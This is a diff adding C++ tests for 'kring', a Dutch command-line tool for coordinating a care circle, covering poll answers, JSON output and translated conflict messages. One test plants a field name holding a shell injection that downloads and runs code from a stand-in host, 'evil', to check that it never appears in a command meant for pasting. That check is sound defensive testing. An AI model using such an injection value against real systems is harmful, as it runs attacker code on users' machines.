@@ -9,6 +9,7 @@
 #include <iterator>
 #include <regex>
 #include <set>
+#include <sstream>
 #include <string>
 #include <utility>
 
@@ -191,12 +192,27 @@ TEST_CASE("three profiles organise a netwerkberaad and agree a plan on the comma
   k.Ok("sanne", "sync");
   k.Ok("ria", "sync");
   k.Ok("sanne", "poll answer 1 ja");
-  k.Ok("ria", "poll answer 1 misschien");
+  // "If need be" is "als het moet" (DOMAIN.md); the older word "misschien" is still taken.
+  Run if_need_be = k.As("ria", "poll answer 1 als-het-moet");
+  INFO(if_need_be.all);
+  REQUIRE(if_need_be.exit_code == 0);
   k.Ok("ria", "poll answer 2 nee");
+  const std::string ria_answers = k.As("ria", "poll answers").out;
+  CHECK(ria_answers.find("1. als het moet") != std::string::npos);
+  CHECK(ria_answers.find("misschien") == std::string::npos);
+  CHECK(k.As("ria", "--lang en poll answers").out.find("1. if need be") != std::string::npos);
+  k.Ok("ria", "poll answer 1 misschien");
+  k.Ok("ria", "poll answer 1 maybe");
+  CHECK(k.As("ria", "poll answers").out.find("1. als het moet") != std::string::npos);
+  Run wrong = k.As("ria", "poll answer 1 wellicht");
+  CHECK(wrong.exit_code == 2);
+  CHECK(wrong.all.find("ja, als-het-moet of nee") != std::string::npos);
+  CHECK(k.As("ria", "poll answer --help").out.find("ja|als-het-moet|nee") != std::string::npos);
   Run hidden = k.As("ria", "poll tally");
   CHECK(hidden.exit_code == 1);
   CHECK(hidden.all.find("Fout: ") != std::string::npos);
   k.Ok("fatima", "sync");
+  CHECK(k.As("fatima", "poll tally").out.find("1 als het moet") != std::string::npos);
   Value tally = k.Json("fatima", "poll tally");
   REQUIRE(tally.list_value().values_size() == 2);
   CHECK(At(tally.list_value().values(0), "yes").number_value() == 1);
@@ -412,7 +428,7 @@ TEST_CASE("two people with one name: a warning, and a name that fits two is refu
   REQUIRE(first.exit_code == 0);
   CHECK(first.all.find("Let op") == std::string::npos);
   // The second Mo is proposed (two cousins may share a name), with a warning on stderr only.
-  Run second = k.As("x", "circle propose --name Mo --kind friend --relation buurman");
+  Run second = k.As("x", "circle propose --name Mo --kind family --relation neef");
   INFO(second.all);
   REQUIRE(second.exit_code == 0);
   CHECK(second.out.find("Let op") == std::string::npos);
@@ -1546,4 +1562,293 @@ TEST_CASE("kring referral show names the first referral's resident and lists lat
   const Value shown = k.Json("fatima", "referral show");
   CHECK(At(shown, "later").list_value().values_size() == 1);
   CHECK(At(At(shown, "later").list_value().values(0), "referrer_account").string_value() == ria);
+}
+
+TEST_CASE("write commands print JSON with --json, and conflicts show labels, not stored names",
+          "[cli]") {
+  TestServer server;
+  TempDir dir;
+  People k(server, dir);
+  // Made things: their id as {"id": ...}, the same id the read commands show.
+  const Value sanne_account = k.Json("sanne", "account create");
+  const std::string sanne = At(sanne_account, "id").string_value();
+  CHECK(sanne.size() == 32);
+  CHECK(At(sanne_account, "account").string_value() == sanne);
+  const std::string fatima = At(k.Json("fatima", "account create"), "id").string_value();
+  REQUIRE(fatima.size() == 32);
+  const Value made = k.Json("sanne", "case create " + fatima + ":coordinator");
+  const std::string cid = At(made, "id").string_value();
+  REQUIRE(cid.size() == 32);
+  CHECK(At(made, "case").string_value() == cid);
+  k.Ok("fatima", "sync");
+
+  Run proposed = k.As("fatima", "--json circle propose --name Ria --kind family --relation tante");
+  INFO(proposed.all);
+  REQUIRE(proposed.exit_code == 0);
+  const Value person = ParseJson(proposed.out);  // one JSON document, no text before or after
+  const std::string ria = At(person, "id").string_value();
+  REQUIRE(ria.size() == 32);
+  CHECK(At(k.Json("fatima", "circle list").list_value().values(0), "id").string_value() == ria);
+  // A change without an id: {"ok": true}.
+  const Value approved = k.Json("fatima", "circle approve Ria");
+  CHECK(At(approved, "ok").bool_value());
+  CHECK(approved.struct_value().fields_size() == 1);
+  const Value poll = k.Json("fatima", "poll create --slot now+7d@19:30");
+  CHECK(At(poll, "id").string_value() == At(k.Json("fatima", "poll show"), "id").string_value());
+  // The general commands too.
+  const Value entity = k.Json("fatima", "entity create " + cid + " notitie");
+  const std::string note = At(entity, "id").string_value();
+  REQUIRE(note.size() == 32);
+  CHECK(At(k.Json("fatima", "field set " + cid + " " + note + " tekst hallo"), "ok").bool_value());
+  const Value role = k.Json("sanne", "member role " + cid + " " + fatima + " member");
+  CHECK(At(role, "ok").bool_value());
+  CHECK(At(role, "synced").bool_value());
+  k.Ok("sanne", "member role " + cid + " " + fatima + " coordinator");
+  CHECK(At(k.Json("fatima", "sync"), "ok").bool_value());
+
+  // Two people change Ria's relation at the same time: the conflict is told with the words of
+  // the user's language, not the stored type and field names.
+  k.Ok("sanne", "sync");
+  k.Ok("sanne", "circle edit Ria --relation 'tante van moederskant'");
+  k.Ok("fatima", "circle edit Ria --relation 'tante Ria'");
+  k.Ok("sanne", "sync");
+  REQUIRE(k.Json("sanne", "conflicts").list_value().values_size() == 1);
+  Run dutch = k.As("sanne", "conflicts --values");
+  INFO(dutch.all);
+  REQUIRE(dutch.exit_code == 0);
+  CHECK(dutch.out.find("persoon in de kring Ria (" + ria + "): relatie met de bewoner") !=
+        std::string::npos);
+  CHECK(dutch.out.find("person " + ria) == std::string::npos);
+  CHECK(dutch.out.find("veld relation") == std::string::npos);
+  CHECK(dutch.out.find("(current)") != std::string::npos);
+  CHECK(dutch.out.find("\"tante van moederskant\"") != std::string::npos);
+  // The stored names only in the command that resolves it, which works as shown.
+  const std::string resolve = "kring conflicts resolve --entity " + ria + " --field relation";
+  // One complete line per choice: "--keep current|other" pasted into a shell is a pipe.
+  CHECK(dutch.out.find("--keep current|other") == std::string::npos);
+  CHECK(dutch.out.find("      " + resolve + " --keep current\n") != std::string::npos);
+  CHECK(dutch.out.find("      " + resolve + " --keep other\n") != std::string::npos);
+  Run english = k.As("sanne", "--lang en conflicts");
+  CHECK(english.out.find("person in the circle Ria (" + ria + "): relation to the resident") !=
+        std::string::npos);
+  k.Ok("sanne", resolve.substr(6) + " --keep current");
+  CHECK(k.Json("sanne", "conflicts").list_value().values_size() == 0);
+}
+
+TEST_CASE("a field name that is not safe in a shell never goes into a command to copy", "[cli]") {
+  TestServer server;
+  TempDir dir;
+  People k(server, dir);
+  k.Id("sanne", "account create", "account");
+  const std::string fatima = k.Id("fatima", "account create", "account");
+  const std::string cid =
+      At(k.Json("sanne", "case create " + fatima + ":coordinator"), "id").string_value();
+  REQUIRE(cid.size() == 32);
+  const std::string note =
+      At(k.Json("sanne", "entity create " + cid + " notitie"), "id").string_value();
+  REQUIRE(note.size() == 32);
+  k.Ok("fatima", "sync");
+  // Any member can write any field name: this one runs a download when pasted into a shell.
+  const std::string field = "x$(curl evil|sh)";
+  k.Ok("sanne", "field set " + cid + " " + note + " '" + field + "' een");
+  k.Ok("fatima", "field set " + cid + " " + note + " '" + field + "' twee");
+  k.Ok("sanne", "sync");
+  const Value open = k.Json("sanne", "conflicts");
+  REQUIRE(open.list_value().values_size() == 1);
+  CHECK(At(open.list_value().values(0), "field").string_value() == field);  // scripts get it
+  for (const char* lang : {"", "--lang en "}) {
+    Run shown = k.As("sanne", std::string(lang) + "conflicts");
+    INFO(shown.all);
+    REQUIRE(shown.exit_code == 0);
+    // The name may be shown as the field's label, never in a line with a command.
+    std::istringstream lines(shown.out);
+    for (std::string line; std::getline(lines, line);) {
+      if (line.find("kring ") == std::string::npos) continue;
+      CHECK(line.find("$(") == std::string::npos);
+      CHECK(line.find("curl") == std::string::npos);
+    }
+    CHECK(shown.out.find("kring conflicts --json") != std::string::npos);
+    const std::string name = *lang == '\0' ? "VELD" : "FIELD";
+    for (const char* keep : {"current", "other"}) {
+      CHECK(shown.out.find("kring conflicts resolve --entity " + note + " --field " + name +
+                           " --keep " + keep + "\n") != std::string::npos);
+    }
+  }
+}
+
+TEST_CASE(
+    "with --json a made item's id comes whatever the sync did, and a failed change prints nothing",
+    "[cli]") {
+  TestServer server;
+  TempDir dir;
+  People k(server, dir);
+  const std::string offline = "127.0.0.1:1";
+  k.Id("sanne", "account create", "account");
+  const std::string fatima = k.Id("fatima", "account create", "account");
+  const std::string cid =
+      At(k.Json("sanne", "case create " + fatima + ":coordinator"), "id").string_value();
+  REQUIRE(cid.size() == 32);
+  k.Ok("fatima", "sync");
+
+  // Without a server: kept on the device, exit 0, and the id with "synced": false.
+  Run kept =
+      k.As("fatima", "--json circle propose --name Ria --kind family --relation tante", offline);
+  INFO(kept.all);
+  REQUIRE(kept.exit_code == 0);
+  const Value ria = ParseJson(kept.out);
+  REQUIRE(At(ria, "id").string_value().size() == 32);
+  CHECK(At(ria, "synced").kind_case() == Value::kBoolValue);
+  CHECK_FALSE(At(ria, "synced").bool_value());
+  const Value sent = k.Json("fatima", "sync");
+  CHECK(At(sent, "ok").bool_value());
+
+  // Sanne closes the case before Fatima's device knows: kringd refuses what Fatima makes, after
+  // it was stored on her device. A script still learns its id; the exit code says it failed.
+  k.Ok("sanne", "case close --case " + cid);
+  Run refused = k.As("fatima", "--json circle propose --name Piet --kind family --relation neef");
+  INFO(refused.all);
+  CHECK(refused.exit_code == 1);
+  const Value piet = ParseJson(refused.out);
+  CHECK(At(piet, "id").string_value().size() == 32);
+  CHECK(At(piet, "synced").kind_case() == Value::kBoolValue);
+  CHECK_FALSE(At(piet, "synced").bool_value());
+  // Now her device knows: nothing more is made, and nothing is printed on stdout.
+  Run entity = k.As("fatima", "--json entity create " + cid + " notitie");
+  CHECK(entity.exit_code == 1);
+  CHECK(entity.out.empty());
+
+  // A change refused before anything was stored: nothing on stdout, the reason on stderr.
+  Run edit = k.As("fatima", "--json circle edit Ria --relation nicht");
+  INFO(edit.all);
+  CHECK(edit.exit_code == 1);
+  CHECK(edit.out.empty());
+  CHECK(edit.all.find("gesloten") != std::string::npos);
+  Run field = k.As(
+      "fatima", "--json field set " + cid + " " + At(ria, "id").string_value() + " relation tante");
+  CHECK(field.exit_code == 1);
+  CHECK(field.out.empty());
+}
+
+TEST_CASE("with --json what a person must be told stays on stderr, and stdout is one document",
+          "[cli]") {
+  TestServer server;
+  TempDir dir;
+  People k(server, dir);
+  auto stderr_of = [](const Run& r) { return r.all.substr(r.out.size()); };
+
+  // The recovery key is shown once, to the person: on stderr, never in the JSON.
+  Run made = k.As("sanne", "--json account create");
+  INFO(made.all);
+  REQUIRE(made.exit_code == 0);
+  const Value account = ParseJson(made.out);
+  CHECK(account.struct_value().fields_size() == 4);  // id, account, device, safety_number
+  const std::string err = stderr_of(made);
+  CHECK(err.find("herstelsleutel") != std::string::npos);
+  std::string key = err.substr(0, err.find_last_not_of('\n') + 1);
+  key = key.substr(key.rfind('\n') + 1);
+  CHECK(key.size() >= 16);
+  CHECK(made.out.find(key) == std::string::npos);
+
+  const std::string fatima = At(k.Json("fatima", "account create"), "id").string_value();
+  const std::string ria = At(k.Json("ria", "account create"), "id").string_value();
+  const std::string bas = At(k.Json("bas", "account create"), "id").string_value();
+  const std::string cid =
+      At(k.Json("sanne", "case create --history " + fatima + ":coordinator"), "id").string_value();
+  REQUIRE(cid.size() == 32);
+  k.Ok("fatima", "sync");
+
+  // member add: {"ok": true, "synced": true}.
+  const Value added = k.Json("sanne", "member add " + cid + " " + bas + ":member");
+  CHECK(At(added, "ok").bool_value());
+  CHECK(At(added, "synced").bool_value());
+  k.Ok("bas", "sync");
+
+  // Ria's account already belongs to someone in the circle when she accepts an invitation for
+  // Tante Ria: approving her does not link it, and the warnings reach her on stderr.
+  k.Ok("fatima", "circle propose --name 'Ria V' --kind family --relation nicht --account " + ria);
+  k.Ok("fatima", "circle approve 'Ria V'");
+  k.Ok("fatima", "circle propose --name 'Tante Ria' --kind family --relation tante");
+  k.Ok("fatima", "circle approve 'Tante Ria'");
+  const Value invite = k.Json("fatima", "invitation app 'Tante Ria'");
+  const std::string link = At(invite, "link").string_value();
+  REQUIRE(!link.empty());
+  CHECK(At(invite, "synced").bool_value());
+  const Value accepted = k.Json("ria", "invite accept " + link);
+  CHECK(At(accepted, "ok").bool_value());
+  CHECK(At(accepted, "case").string_value() == cid);
+  CHECK(At(accepted, "synced").bool_value());
+  Run approved = k.As("sanne", "--json member approve " + cid + " " + ria);
+  INFO(approved.all);
+  REQUIRE(approved.exit_code == 0);
+  CHECK(At(ParseJson(approved.out), "ok").bool_value());
+  CHECK(stderr_of(approved).find("Let op") != std::string::npos);
+  CHECK(stderr_of(approved).find("kring circle link") != std::string::npos);
+
+  // A member removed: the notice that what was seen cannot be taken back, and that the person
+  // is still in the circle, with --json on stderr.
+  Run removed = k.As("sanne", "--json member remove " + cid + " " + ria);
+  INFO(removed.all);
+  REQUIRE(removed.exit_code == 0);
+  CHECK(At(ParseJson(removed.out), "ok").bool_value());
+  CHECK(stderr_of(removed).find("kunnen we niet terughalen") != std::string::npos);
+  CHECK(stderr_of(removed).find("Deze persoon staat nog in de kring") != std::string::npos);
+
+  // Leaving: told the same way.
+  Run left = k.As("bas", "--json case leave " + cid);
+  INFO(left.all);
+  REQUIRE(left.exit_code == 0);
+  CHECK(At(ParseJson(left.out), "ok").bool_value());
+  CHECK(stderr_of(left).find("Je bent uit de kring gestapt") != std::string::npos);
+
+  // Invite create: its id, the link and whether it reached kringd.
+  const Value created = k.Json("sanne", "invite create " + cid + " member --hours 24");
+  CHECK(At(created, "id").string_value() == At(created, "invite").string_value());
+  CHECK(At(created, "link").string_value().rfind("kring://invite/1/", 0) == 0);
+  CHECK(At(created, "synced").bool_value());
+}
+
+TEST_CASE("a conflict on a poll answer is told with its words, and poll answer's help in English",
+          "[cli]") {
+  TestServer server;
+  TempDir dir;
+  People k(server, dir);
+  k.Id("sanne", "account create", "account");
+  const std::string fatima = k.Id("fatima", "account create", "account");
+  const std::string joke = k.Id("joke", "account create", "account");
+  const std::string cid =
+      At(k.Json("sanne", "case create " + fatima + ":coordinator " + joke + ":coordinator"), "id")
+          .string_value();
+  REQUIRE(cid.size() == 32);
+  k.Ok("fatima", "sync");
+  k.Ok("fatima", "circle propose --name Ria --kind family --relation tante");
+  k.Ok("fatima", "circle approve Ria");
+  k.Ok("fatima", "poll create --slot now+7d@19:30");
+  k.Ok("fatima", "poll answer 1 ja --person Ria");
+  k.Ok("fatima", "sync");
+  k.Ok("joke", "sync");
+  // Joke and Fatima answer for Ria at the same time, with different answers.
+  k.Ok("joke", "poll answer 1 nee --person Ria");
+  k.Ok("fatima", "poll answer 1 als-het-moet --person Ria");
+  k.Ok("fatima", "sync");
+  k.Ok("joke", "sync");
+  REQUIRE(k.Json("joke", "conflicts").list_value().values_size() == 1);
+  Run dutch = k.As("joke", "conflicts --values");
+  INFO(dutch.all);
+  REQUIRE(dutch.exit_code == 0);
+  CHECK(dutch.out.find(": antwoord voor een moment\n") != std::string::npos);
+  CHECK(dutch.out.find("\"als het moet\"") != std::string::npos);
+  CHECK(dutch.out.find("\"nee\"") != std::string::npos);
+  CHECK(dutch.out.find("if_need_be") == std::string::npos);
+  CHECK(dutch.out.find("\"no\"") == std::string::npos);
+  Run english = k.As("joke", "--lang en conflicts --values");
+  CHECK(english.out.find(": answer for a time\n") != std::string::npos);
+  CHECK(english.out.find("\"if need be\"") != std::string::npos);
+  CHECK(english.out.find("\"no\"") != std::string::npos);
+
+  // The help of poll answer names the words of the user's language.
+  Run help = k.As("sanne", "--lang en poll answer --help");
+  CHECK(help.exit_code == 0);
+  CHECK(help.out.find("yes|if-need-be|no") != std::string::npos);
+  CHECK(help.out.find("als-het-moet") == std::string::npos);
+  CHECK(k.As("sanne", "poll answer --help").out.find("ja|als-het-moet|nee") != std::string::npos);
 }
